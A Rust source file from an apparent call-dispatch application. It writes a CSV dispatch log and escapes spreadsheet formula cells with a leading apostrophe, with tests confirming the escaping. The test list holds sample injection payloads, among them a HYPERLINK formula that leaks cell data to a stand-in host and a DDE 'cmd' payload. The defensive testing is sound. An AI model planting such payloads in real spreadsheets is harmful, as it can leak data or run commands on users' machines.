//! The dispatch log as CSV, for an owner who opens it in a spreadsheet.
//!
//! Much of a row is what a caller said, so a cell a spreadsheet would
//! read as a formula (one starting with `=`, `+`, `-`, `@`, a tab or a
//! carriage return) is written with a leading apostrophe: the program then
//! shows it as text. The first column is the receipt id, which a retry
//! looks for before it appends.

use std::io::Write;
use std::path::{Path, PathBuf};

use super::Error;
use crate::record::Receipt;

/// The columns, in order; the header row of a new file.
pub const COLUMNS: &[&str] = &[
    "receipt_id",
    "started_at",
    "business",
    "channel",
    "caller_number",
    "caller_name",
    "address",
    "in_area",
    "trade",
    "urgency",
    "lane",
    "rule",
    "summary",
    "said",
    "alerted",
];

/// `dispatch-log.csv` under the data folder.
#[derive(Debug, Clone)]
pub struct CsvLog {
    path: PathBuf,
}

impl CsvLog {
    pub fn new(dir: &Path) -> CsvLog {
        CsvLog {
            path: dir.join("dispatch-log.csv"),
        }
    }

    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Appends the receipt's row unless a row with its id is there.
    ///
    /// # Errors
    ///
    /// When the file cannot be read or written; the job retries.
    pub fn write(&self, r: &Receipt) -> Result<bool, Error> {
        let io = |e| Error::io(&self.path, e);
        let _held = super::local_file_lock();
        if let Some(dir) = self.path.parent() {
            std::fs::create_dir_all(dir).map_err(io)?;
        }
        let exists = self.path.exists();
        if exists && self.has(&r.receipt_id)? {
            return Ok(false);
        }
        let mut out = csv::WriterBuilder::new().from_writer(Vec::new());
        let csv_err = |e: csv::Error| Error::retry(format!("{}: {e}", self.path.display()));
        if !exists {
            out.write_record(COLUMNS).map_err(csv_err)?;
        }
        out.write_record(row(r).iter().map(|cell| text_cell(cell)))
            .map_err(csv_err)?;
        let bytes = out.into_inner().map_err(|e| Error::retry(e.to_string()))?;
        let mut file = std::fs::OpenOptions::new()
            .create(true)
            .append(true)
            .open(&self.path)
            .map_err(io)?;
        file.write_all(&bytes).map_err(io)?;
        file.sync_data().map_err(io)?;
        Ok(true)
    }

    fn has(&self, receipt_id: &str) -> Result<bool, Error> {
        let mut reader = csv::ReaderBuilder::new()
            .flexible(true)
            .from_path(&self.path)
            .map_err(|e| Error::retry(format!("{}: {e}", self.path.display())))?;
        for record in reader.records() {
            let record =
                record.map_err(|e| Error::retry(format!("{}: {e}", self.path.display())))?;
            if record.get(0) == Some(receipt_id) {
                return Ok(true);
            }
        }
        Ok(false)
    }
}

/// The row of a receipt, before escaping.
pub fn row(r: &Receipt) -> Vec<String> {
    let said: Vec<&str> = r.issue.words.iter().map(|(_, w)| w.as_str()).collect();
    let alerted: Vec<String> = r
        .messages
        .iter()
        .filter(|m| m.role == "technician" || m.role == "owner")
        .map(|m| format!("{} {} ({})", m.role, m.to, m.status))
        .collect();
    let opt = |v: &Option<String>| v.clone().unwrap_or_default();
    vec![
        r.receipt_id.clone(),
        r.started_at.clone(),
        r.business.name.clone(),
        r.channel.clone(),
        r.caller.number.clone(),
        opt(&r.caller.name),
        r.address
            .normalised
            .clone()
            .or_else(|| r.address.heard.clone())
            .unwrap_or_default(),
        r.address.in_area.map(|b| b.to_string()).unwrap_or_default(),
        opt(&r.trade),
        r.urgency.score.to_string(),
        opt(&r.lane),
        opt(&r.rule),
        r.issue.summary.clone(),
        said.join(" / "),
        alerted.join("; "),
    ]
}

/// A cell a spreadsheet shows as the text it is.
///
/// ```
/// use nightdesk::record::sinks::csv_log::text_cell;
/// assert_eq!(text_cell("=HYPERLINK(\"x\")"), "'=HYPERLINK(\"x\")");
/// assert_eq!(text_cell("+16125550143"), "'+16125550143");
/// assert_eq!(text_cell("burst pipe"), "burst pipe");
/// ```
pub fn text_cell(cell: &str) -> String {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}"),
        _ => cell.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const HOSTILE: &[&str] = &[
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"call back\")",
        "+16125550143",
        "-2+3 gallons",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
        "plain, \"quoted\"\nsecond line",
    ];

    #[test]
    fn formula_cells_get_an_apostrophe() {
        for cell in HOSTILE.iter().take(7) {
            assert!(text_cell(cell).starts_with('\''), "{cell:?}");
        }
        assert_eq!(text_cell(HOSTILE[7]), HOSTILE[7]);
    }

    /// Python's csv module, a real spreadsheet-style parser, reads every
    /// hostile cell back as the apostrophe and the caller's text.
    #[test]
    fn python_reads_hostile_cells_as_text() {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("hostile.csv");
        let mut out = csv::Writer::from_path(&path).unwrap();
        out.write_record(HOSTILE.iter().map(|c| text_cell(c)))
            .unwrap();
        out.flush().unwrap();
        let script = "import csv, json, sys\n\
                      rows = list(csv.reader(open(sys.argv[1], newline='')))\n\
                      print(json.dumps(rows))";
        let ran = std::process::Command::new("python3")
            .arg("-c")
            .arg(script)
            .arg(&path)
            .output();
        let ran = ran.expect("python3 must be installed to check the CSV");
        assert!(
            ran.status.success(),
            "{}",
            String::from_utf8_lossy(&ran.stderr)
        );
        let rows: Vec<Vec<String>> = serde_json::from_slice(&ran.stdout).unwrap();
        assert_eq!(rows.len(), 1);
        for (got, sent) in rows[0].iter().zip(HOSTILE) {
            assert_eq!(got, &text_cell(sent));
            assert!(
                !got.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{got:?}"
            );
        }
    }
}
